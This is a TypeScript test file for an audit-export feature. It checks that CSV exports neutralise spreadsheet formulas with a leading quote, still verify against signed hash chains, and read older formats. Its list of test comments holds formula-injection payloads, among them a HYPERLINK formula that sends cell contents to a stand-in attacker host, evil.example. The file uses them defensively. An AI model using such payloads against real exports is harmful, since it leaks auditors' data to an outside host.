import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describeBackends } from './support/db';
import { startTestApp, type TestApp } from './support/app';
import { proposal } from './support/proposals';
import { grms } from './support/cli';
import { verifyExportFile } from '../src/audit/verify-file';
import { CsvParser, csvField, formulaLike, spreadsheetValue } from '../src/audit/csv';
import { EXPORT_FORMAT } from '../src/audit/export';

const README = path.join(__dirname, '..', 'README.md');
const FIXTURES = path.join(__dirname, 'fixtures');

/** Comments an attacker would write to run something in the auditor's spreadsheet. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Klik")', '+62 812 0000', '-1 baris', '@SUM(1+1)',
  '\tTab di depan', '\rCR di depan', "'kutip di depan", "'=sudah berkutip",
];

/**
 * The checkpoint key a deployment published when it wrote `file`: the test pins it as an auditor
 * pins the key `grms key show` printed (verification never takes it from the file by itself).
 */
function publishedKey(file: string): string {
  const lines = fs.readFileSync(file, 'utf8').trim().split(/\r?\n/);
  const last = lines[lines.length - 1]!;
  const record = last.startsWith('{') ? JSON.parse(last) : JSON.parse(new CsvParser().push(`${last}\n`)[0]!.at(-1)!);
  return record.publicKeyPem as string;
}

function keyFile(pem: string): string {
  const file = path.join(dir, `key-${crypto.randomUUID()}.pem`);
  fs.writeFileSync(file, pem);
  return file;
}

function parseCsv(text: string): { header: string[]; events: Array<Array<string | null>>; meta: Record<string, unknown> } {
  const records = new CsvParser().push(text);
  const header = records[0]!.map((f) => (f ?? '').replace(/^\uFEFF/, ''));
  const metaRow = records.find((r) => r[0] === 'meta')!;
  return { header, events: records.filter((r) => r[0] === 'event'), meta: JSON.parse(metaRow[metaRow.length - 1]!) };
}

let dir: string;
beforeAll(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'grms-export-format-'));
});
afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

describeBackends('audit export: cells a spreadsheet would run', (kind) => {
  let app: TestApp;
  let id: string;
  beforeAll(async () => {
    app = await startTestApp(kind);
    id = (await app.call('perencana.pupr', 'POST', '/api/v1/instances', { workflow: 'budget-proposal', data: proposal({ title: 'Jalan Kaligarang' }) })).body.id;
    expect((await app.call('perencana.pupr', 'POST', `/api/v1/instances/${id}/events`, { type: 'submit' })).status).toBe(200);
    for (const comment of HOSTILE) {
      expect((await app.call('kadis.pupr', 'POST', `/api/v1/instances/${id}/comments`, { comment })).status).toBe(201);
    }
    expect((await app.call('kadis.pupr', 'POST', `/api/v1/instances/${id}/events`, { type: 'return', comment: '=1+1' })).status).toBe(200);
  });
  afterAll(async () => {
    await app.close();
  });

  test('every such cell leaves with a leading \', reads back as written, and the file verifies offline (CLI too)', async () => {
    const res = await fetch(`${app.url}/api/v1/audit/export?format=csv&instance=${id}`, { headers: { authorization: `Bearer ${app.tokens['auditor.inspektorat']}` } });
    expect(res.status).toBe(200);
    const bytes = Buffer.from(await res.arrayBuffer());
    const { header, events, meta } = parseCsv(bytes.toString('utf8'));
    expect(meta.format).toBe('grms-audit-export/3');
    // No event cell, in any column, starts a formula.
    const live = events.flatMap((r) => r.filter((cell) => cell !== null && formulaLike(cell)));
    expect(live).toEqual([]);
    const comments = events.map((r) => r[header.indexOf('Catatan')]).filter((c): c is string => c !== null);
    expect(comments).toEqual([...HOSTILE, '=1+1'].map((c) => `'${c}`));
    expect(comments.map(spreadsheetValue)).toEqual([...HOSTILE, '=1+1']);

    const file = path.join(dir, `hostile-${kind}.csv`);
    fs.writeFileSync(file, bytes);
    // No checkpoint is signed yet in this test: the rows are the unchecked tail.
    const pinned = { publicKeyPem: (await app.call('auditor.inspektorat', 'GET', '/api/v1/audit/public-key')).body.publicKeyPem as string, allowUncheckedTail: true };
    expect(await verifyExportFile(file, pinned)).toMatchObject({ ok: true, checked: events.length, chains: 1, broken: [] });
    const cli = grms(['audit', 'verify', '--file', file, '--log-key', keyFile(pinned.publicKeyPem), '--allow-unchecked-tail'], {});
    expect({ status: cli.status, ok: JSON.parse(cli.stdout).ok }).toEqual({ status: 0, ok: true });

    // The hash covers values, not their spelling: a guard taken out is reported by itself.
    const unguarded = path.join(dir, `unguarded-${kind}.csv`);
    fs.writeFileSync(unguarded, bytes.toString('utf8').replace(`"'=HYPERLINK(`, '"=HYPERLINK('));
    const r = await verifyExportFile(unguarded, pinned);
    expect(r.ok).toBe(false);
    expect(r.broken).toEqual([expect.objectContaining({ instanceId: id, reason: expect.stringMatching(/^comment: a cell a spreadsheet would run as a formula/) })]);

    // JSONL needs no guard: the values are as stored.
    const jsonl = await app.call('auditor.inspektorat', 'GET', `/api/v1/audit/export?format=jsonl&instance=${id}`);
    const lines = jsonl.text.trim().split('\n').map((l) => JSON.parse(l));
    // JSONL keeps format 2 exactly: names as keys, no local-time field.
    expect(lines[0]).toMatchObject({ record: 'meta', format: 'grms-audit-export/2' });
    expect(lines[0].timeZone).toBeUndefined();
    expect(lines.filter((l) => 'created_at_local' in l)).toEqual([]);
    expect(lines.filter((l) => l.record === 'event' && l.comment !== null).map((l) => l.comment)).toEqual([...HOSTILE, '=1+1']);
  });
});

describe('audit export format versions', () => {
  test('files written in version 1 (before the guard) still verify, CSV and JSONL, cells taken as they are', async () => {
    for (const name of ['audit-export-v1.csv', 'audit-export-v1.jsonl']) {
      const file = path.join(FIXTURES, name);
      const result = await verifyExportFile(file, { publicKeyPem: publishedKey(file) });
      expect({ name, ...result }).toMatchObject({ name, ok: true, checked: 11, chains: 1, broken: [] });
      expect(result.checkpoint).toMatchObject({ signature: 'valid', key: 'given', headsChecked: 1 });
    }
    const { header, events, meta } = parseCsv(fs.readFileSync(path.join(FIXTURES, 'audit-export-v1.csv'), 'utf8'));
    expect(meta.format).toBe('grms-audit-export/1');
    // Version 1 wrote the formula as it was, and a leading ' of the value itself is kept.
    const comments = events.map((r) => r[header.indexOf('comment')]);
    expect(comments).toContain('=HYPERLINK("https://evil.example/?d="&A1,"Klik")');
    expect(comments).toContain("'kutip di depan");
    const v1 = path.join(FIXTURES, 'audit-export-v1.csv');
    expect(grms(['audit', 'verify', '--file', v1, '--log-key', keyFile(publishedKey(v1))], {}).status).toBe(0);
  });

  test('files written in version 2 (column names as headings, no local time) still verify', async () => {
    // The README's worked example of version 2, as an auditor may have kept it.
    const file = path.join(FIXTURES, 'audit-export-v2.csv');
    expect(await verifyExportFile(file, { publicKeyPem: publishedKey(file), allowUncheckedTail: true })).toMatchObject({ ok: true, checked: 1, chains: 1, segments: 1, broken: [] });
    const { header, meta } = parseCsv(fs.readFileSync(file, 'utf8'));
    expect(meta.format).toBe('grms-audit-export/2');
    expect(header.slice(0, 3)).toEqual(['record', 'instance_id', 'seq']);
  });

  test('a format this version does not know is refused, not guessed at', async () => {
    const file = path.join(dir, 'future.jsonl');
    const text = fs.readFileSync(path.join(FIXTURES, 'audit-export-v1.jsonl'), 'utf8').replace('"format":"grms-audit-export/1"', '"format":"grms-audit-export/9"');
    fs.writeFileSync(file, text);
    await expect(verifyExportFile(file, { publicKeyPem: publishedKey(file) })).rejects.toThrow(/format grms-audit-export\/9; reads grms-audit-export\/1, grms-audit-export\/2, grms-audit-export\/3/);
  });

  test('the README\'s worked example: its cells are what the writer writes, and its whole file verifies', async () => {
    const readme = fs.readFileSync(README, 'utf8');
    const between = (name: string) => {
      const m = new RegExp(`<!-- ${name}:start -->\\n([\\s\\S]*?)<!-- ${name}:end -->`).exec(readme);
      if (!m) throw new Error(`README has no ${name} block`);
      return m[1]!;
    };
    const rows = between('export-cells').trim().split('\n').slice(2)
      .map((line) => /^\| `(.*)` \| `(.*)` \|$/.exec(line)!)
      .map((m) => ({ value: m[1]!, cell: m[2]! }));
    expect(rows.length).toBeGreaterThanOrEqual(5);
    for (const { value, cell } of rows) {
      expect({ value, written: csvField(value) }).toEqual({ value, written: cell });
      const [[read]] = new CsvParser().push(`${cell}\n`) as [[string]];
      expect({ cell, value: spreadsheetValue(read) }).toEqual({ cell, value });
    }

    const example = /```csv\n([\s\S]*?)```/.exec(between('export-example'))![1]!;
    expect(example).toContain(`""format"":""${EXPORT_FORMAT}""`);
    const file = path.join(dir, 'readme-example.csv');
    fs.writeFileSync(file, example.replace(/\n/g, '\r\n'));
    expect(await verifyExportFile(file, { publicKeyPem: publishedKey(file), allowUncheckedTail: true })).toMatchObject({ ok: true, checked: 1, chains: 1, segments: 1, broken: [] });
    const { header, events } = parseCsv(example);
    expect(events[0]![header.indexOf('Catatan')]).toBe('\'=HYPERLINK("https://contoh.example/","Klik")');
  });
});
